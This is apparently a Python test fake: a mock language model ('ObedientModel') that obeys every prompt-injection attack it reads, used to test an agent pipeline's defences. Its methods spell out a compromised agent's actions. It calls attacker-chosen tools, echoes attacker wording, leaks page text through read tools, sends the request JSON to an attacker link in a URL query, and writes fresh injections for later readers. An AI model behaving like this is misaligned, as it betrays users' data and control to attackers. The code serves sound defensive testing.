"""A language model that does whatever the text from outside wants, in the worst form that each answer allows."""

import json
from collections import Counter
from collections.abc import Iterable, Iterator
from typing import Any
from urllib.parse import quote

from tests.attacks.attack import Attack
from tests.attacks.goals import LINK
from tests.attacks.papers import WORDS
from tests.fakes.openai_server import Reply


class ObedientModel:
    """It obeys every attack that it reads, and remembers which.

    Asked for the first time it calls the attackers' tools instead of answering, or answers with all that they want said
    and keys of theirs; asked again, with what they want said; and in the end with words that may pass.
    """

    def __init__(self, attacks: tuple[Attack, ...]) -> None:
        self.attacks = attacks
        self.obeyed = Counter[Attack]()
        self.calls = 0
        self.pages: list[str] = []
        """What the attacker has published, for the plans that may be carried out."""

    def __call__(self, body: dict[str, Any]) -> str | Reply:
        self.calls += 1
        said = "\n".join(message["content"] or "" for message in body["messages"])
        present = [attack for attack in self.attacks if attack.marker in said]
        self.obeyed.update(present)
        turn = sum(message["role"] == "assistant" for message in body["messages"])
        if turn == 0 and self.calls % 2:
            return Reply(tools=tuple(attack.goal.call for attack in present))
        answer = self._answer(body, present, turn)
        for attack in present if turn == 0 else ():
            answer |= attack.goal.keys
        return json.dumps(answer, ensure_ascii=False)

    def _answer(self, body: dict[str, Any], present: list[Attack], turn: int) -> dict[str, Any]:
        """Return an answer of the right form."""
        asked = body.get("response_format") or {}
        kind = asked["json_schema"]["name"] if asked else body["tools"][0]["function"]["name"]
        request = json.loads(body["messages"][1]["content"])
        prompt = body["messages"][0]["content"][:400]
        if kind in ("Research", "Plans"):
            return {"calls": self._research(request, turn) if kind == "Research" else self._plans(request, present)}
        said = (
            _cited(attack, request) if turn >= 2 else f"{attack.goal.loud} {attack.text}" for attack in present
        )  # fmt: skip
        words = _once(said).replace("PROMPT", prompt)
        return getattr(self, kind)(request, words)

    def _research(self, request: dict[str, Any], turn: int) -> list[dict[str, Any]]:
        """Plan what is not allowed, then what takes an attacker's words for the name of a call, then all there is."""
        plans = [attack for attack in self.attacks if attack.place == "plan"]
        if request["findings"]:
            return looked_up()
        self.obeyed.update(plans)
        if turn == 0:
            return [_call(f"v1-{at}", *attack.goal.call) for at, attack in enumerate(plans[:4])]
        return [
            _call(f"v1-{at}", "query", {"sql": {"from": attack.text, "path": "/text"}})
            for at, attack in enumerate(plans)
        ]

    def _plans(self, request: dict[str, Any], present: list[Attack]) -> list[dict[str, Any]]:
        """Plan the attackers' calls and a write, then to tell a server what a page said, then what may be called."""
        readable = [tool["name"] for tool in request["tools"] if tool["name"].startswith("desk.read")]
        told = " ".join(request["findings"])
        pages = [_call(f"page-{at}", "web.get", {"url": page}) for at, page in enumerate(self.pages)]
        if not told:
            wanted = dict.fromkeys(attack.goal.call[0] for attack in present)
            calls = {attack.goal.call[0]: attack.goal.call[1] for attack in present}
            asked = [_call(f"call-{at}", tool, calls[tool]) for at, tool in enumerate(wanted)]
            return [*asked, _call("write", "desk.post", {"text": json.dumps(request)})]
        if "'write'" in told:
            leak = {"text": {"from": "page-0", "path": "/text"}}
            return [*pages[:1], *(_call(f"leak-{at}", tool, leak) for at, tool in enumerate(readable[:1]))]
        away = _call("away", "web.get", {"url": f"{LINK}?q={quote(json.dumps(request)[:500])}"})
        moved = [_call(f"moved-{at}", f"desk.moved{at}", {"text": "rent"}) for at in range(4)]
        read = [_call(f"read-{at}", tool, {"text": "rent"}) for at, tool in enumerate(readable)]
        if "that there is not" in told:  # of a tool whose words hide letters nobody may plan anything
            moved = []
        return [*pages, away, *moved, *read]

    def Answer(self, request: dict[str, Any], words: str) -> dict[str, Any]:  # noqa: N802
        return {"statement": words}

    def VarianceExplanation(self, request: dict[str, Any], words: str) -> dict[str, Any]:  # noqa: N802 - a schema's name
        carried = f"{words} {self._next('draft').text} {self._next('draft').text}" if self.calls % 3 else words
        return {"why": carried, "entry_ids": [_plain(line["entry_id"]) for line in request["postings"][:1]]}

    def Summary(self, request: dict[str, Any], words: str) -> dict[str, Any]:  # noqa: N802
        return {"summary": f"{words}\n\nOn the comment: it is noted."}

    def CheckNotes(self, request: dict[str, Any], words: str) -> dict[str, Any]:  # noqa: N802
        notes = [{"check": one["id"], "explanation": words, "look_at": one["title"]} for one in request["checks"]]
        return {"notes": notes}

    def Review(self, request: dict[str, Any], words: str) -> dict[str, Any]:  # noqa: N802
        if self.calls % 2:
            return {"verdict": "pass", "findings": [], "statement": words}
        draft = _plain(request["drafts"][-1]["name"])
        found = [{"draft": draft, "quote": "", "why": self._next("finding").text} for _ in range(2)]
        return {"verdict": "revise", "findings": found, "statement": words}

    def _next(self, place: str) -> Attack:
        """Return the attack that the model itself writes down for its next reader, another one each time."""
        attack = min((one for one in self.attacks if one.place == place), key=lambda one: self.obeyed[one])
        self.obeyed[attack] += 1
        return attack


def looked_up() -> list[dict[str, Any]]:
    """Return calls of tools that bring every place that can be looked up before the analyst."""
    papers = [_call(f"v1-{number}", "documents", {"question": word}) for number, word in enumerate(WORDS.values())]
    rows = [_call(f"v1-rows-{first}", "query", {"sql": _ROWS.format(first, first + 1)}) for first in (0, 2)]
    past = [_call(f"v1-past-{number}", "past_cases", {"limit": 2, "key": {"half": number}}) for number in (0, 1)]
    return [*papers, *rows, *past]


_ROWS = """
SELECT right(counterparty, 400) AS counterparty FROM journal
WHERE entry_id IN ('JE-1{}', 'JE-1{}') AND base_amount > 0 ORDER BY entry_id
"""


def _call(name: str, tool: str, arguments: dict[str, Any]) -> dict[str, Any]:
    return {"id": name, "tool": tool, "arguments": arguments}


def _cited(attack: Attack, request: dict[str, Any]) -> str:
    """Return the smooth words of an attack, with the mark of a passage that bears them out where there is one."""
    marks = (part["mark"] for part in _passages(request) if attack.goal.smooth in part["text"]["text"])
    mark = next(marks, "")
    return f"{attack.goal.smooth[:-1]} [{mark}]." if mark else attack.goal.smooth


def _passages(part: Any) -> Iterator[dict[str, Any]]:
    if isinstance(part, dict) and "mark" in part:
        yield part
    elif isinstance(part, dict | list):
        for inner in part.values() if isinstance(part, dict) else part:
            yield from _passages(inner)


def _once(sentences: Iterable[str]) -> str:
    return " ".join(dict.fromkeys(sentences)) or "There is nothing to say."


def _plain(value: Any) -> str:
    return value["text"] if isinstance(value, dict) else value
